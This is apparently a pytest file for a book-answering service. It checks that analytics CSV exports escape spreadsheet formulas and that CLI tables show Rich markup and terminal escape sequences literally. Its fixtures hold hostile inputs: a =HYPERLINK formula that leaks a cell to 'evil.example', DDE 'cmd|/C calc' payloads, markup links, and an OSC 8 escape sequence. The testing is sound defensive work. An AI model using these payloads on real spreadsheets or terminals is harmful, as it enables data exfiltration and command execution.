"""Reader text reaches the author as text, never as something the author's tools act on: in the reports'
CSV a cell that starts like a spreadsheet formula (=HYPERLINK(...), +, -, @, tab, carriage return) is
escaped with a leading apostrophe, and numbers stay numbers; in `python -m src.cli report`'s tables Rich
markup and terminal escape sequences in a question, a comment or the book's text are shown as typed.
The questions go through the real /answer and /feedback endpoints; the reports are the real service's."""

from __future__ import annotations

import csv
import io
from pathlib import Path
from typing import Any

import httpx
from rich.console import Console

from src.analytics import csvout
from src.analytics.console import print_tables
from src.analytics.schemas import Chapter, Chapters, DislikedAnswer, Feedback, QuestionGroup, Window
from src.retrieval.passage import Citation
from tests.conftest import auth, make_settings, running_app

FORMULAS = [
    '=HYPERLINK("https://evil.example/?leak="&A1,"Open the chapter")',
    "+cmd|' /C calc'!A0 what is a robot",
    "-2+3+cmd|' /C calc'!A0 humanoid balance",
    "@SUM(1+1)*cmd|' /C calc'!A0 digital twin",
]
MARKUP = "Why [link=https://evil.example]click here[/link] and [bold red]this[/bold red]? [/i]"
COMMENT = '=HYPERLINK("https://evil.example","more") [link=https://evil.example]see[/link]'
DANGEROUS_STARTS = ("=", "+", "-", "@", "\t", "\r")


def rows(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


async def seed(client: httpx.AsyncClient) -> None:
    """Nothing is indexed: every question is refused, so each one is a gap; the first is down-voted with a comment."""
    answers = []
    for question in [*FORMULAS, MARKUP]:
        response = await client.post("/api/v1/answer", json={"question": question})
        assert response.status_code == 200, response.text
        answers.append(response.json())
    for answer in (answers[0], answers[-1]):
        rated = await client.post(
            "/api/v1/feedback", json={"answer_id": answer["answer_id"], "rating": "down", "comment": COMMENT}
        )
        assert rated.status_code == 201, rated.text


async def test_reader_text_is_escaped_in_every_csv_report_and_shown_literally_in_the_tables(tmp_path: Path) -> None:
    async with running_app(make_settings(tmp_path, cache_answer_ttl_seconds=0)) as (_, client):
        await seed(client)
        reports: dict[str, Any] = {}
        csvs: dict[str, list[list[str]]] = {}
        for name in ("summary", "gaps", "chapters", "feedback"):
            reports[name] = (await client.get(f"/api/v1/analytics/{name}", headers=auth())).json()
            response = await client.get(f"/api/v1/analytics/{name}?format=csv", headers=auth())
            assert response.status_code == 200, response.text
            csvs[name] = rows(response.text)

    # No cell of any report starts like a formula; the reader's text is there, behind the apostrophe.
    for name, table in csvs.items():
        for row in table:
            assert not [cell for cell in row if cell.startswith(DANGEROUS_STARTS)], (name, row)
    feedback = [dict(zip(csvs["feedback"][0], row, strict=True)) for row in csvs["feedback"][1:]]
    assert {r["question"] for r in feedback} == {"'" + FORMULAS[0], MARKUP}
    assert {r["comment"] for r in feedback} == {"'" + COMMENT}
    gap_cells = " ".join(cell for row in csvs["gaps"][1:] for cell in row)
    for question in FORMULAS:
        assert question in gap_cells, question
    examples = {dict(zip(csvs["gaps"][0], row, strict=True))["examples"][:2] for row in csvs["gaps"][1:]}
    assert examples & {"'=", "'+", "'-", "'@"}, examples
    # Numbers stay numbers.
    summary = dict(zip(csvs["summary"][0], csvs["summary"][1], strict=True))
    assert summary["questions"] == str(len(FORMULAS) + 1) and summary["refused"] == summary["questions"]
    assert all(dict(zip(csvs["gaps"][0], row, strict=True))["count"].isdigit() for row in csvs["gaps"][1:])

    # The same reports as the CLI prints them.
    console = Console(record=True, width=400, force_terminal=True, color_system="truecolor")
    print_tables(reports, console)
    shown = console.export_text(styles=False)
    assert "[link=https://evil.example]click here[/link]" in shown and "[bold red]this[/bold red]? [/i]" in shown, shown
    assert "[link=https://evil.example]see[/link]" in shown, shown
    assert FORMULAS[0] in shown


def test_book_text_and_escape_sequences_are_shown_not_obeyed_in_the_tables() -> None:
    """What the service's reports carry from the book (a chapter's name, an answer's text) can hold markup or
    control characters too: the tables show them, and send no escape sequence of their own to the terminal."""
    window = {"since": "2026-01-01T00:00:00+00:00", "until": "2026-01-02T00:00:00+00:00"}
    hyperlink = "\x1b]8;;https://evil.example\x1b\\click\x1b]8;;\x1b\\"
    chapters = {
        "window": window,
        "chapters": [
            {
                "chapter": "[bold]Chapter[/bold] :smile:",
                "questions": 1,
                "refused": 1,
                "refused_rate": 1.0,
                "thumbs_down": 0,
                "thumbs_down_rate": 0.0,
                "top_groups": [{"count": 1, "examples": ["[red]x"]}],
            }
        ],
    }
    feedback = {
        "window": window,
        "count": 1,
        "answers": [
            {"rated_at": "2026-01-01T10:00:00", "question": "q", "answer": f"red \x1b[31m {hyperlink}", "comment": None}
        ],
    }
    console = Console(record=True, width=400, force_terminal=True, color_system="truecolor")
    print_tables({"chapters": chapters, "feedback": feedback}, console)
    shown = console.export_text(styles=False)
    assert "[bold]Chapter[/bold] :smile:" in shown and "1 × [red]x" in shown, shown
    assert "\x1b" not in shown and "\\x1b[31m" in shown and "\\x1b]8;;https://evil.example" in shown, repr(shown)


def test_csv_escapes_a_tab_or_carriage_return_start_and_leaves_numbers_alone() -> None:
    window = Window(since="2026-01-01T00:00:00+00:00", until="2026-01-02T00:00:00+00:00")
    answer = DislikedAnswer(
        answer_id="a" * 32,
        question="\t=1+1",
        answer="\r=2+2\rend",
        comment="-",
        citations=[Citation(id=1, chunk_id="c1", url="@x")],
        chapter="+c",
        page=None,
        asked_at="2026-01-01",
        rated_at=None,
    )
    [_, row] = rows(csvout.feedback_csv(Feedback(window=window, count=1, answers=[answer])))
    # A carriage return, which the writer would not quote, becomes the line feed it does: the row stays one row.
    assert row[3:] == ["'+c", "", "'\t=1+1", "'\n=2+2\nend", "'-", "'@x"]
    chapter = Chapter(
        chapter="=A1",
        url=None,
        questions=-3,
        refused=0,
        refused_rate=-0.5,
        thumbs_down=0,
        thumbs_down_rate=0.0,
        top_groups=[QuestionGroup(count=1, examples=["=B2"])],
    )
    [_, row] = rows(csvout.chapters_csv(Chapters(window=window, chapters=[chapter])))
    assert row == ["'=A1", "-3", "0", "-0.5", "0", "0.0", "1: =B2"]
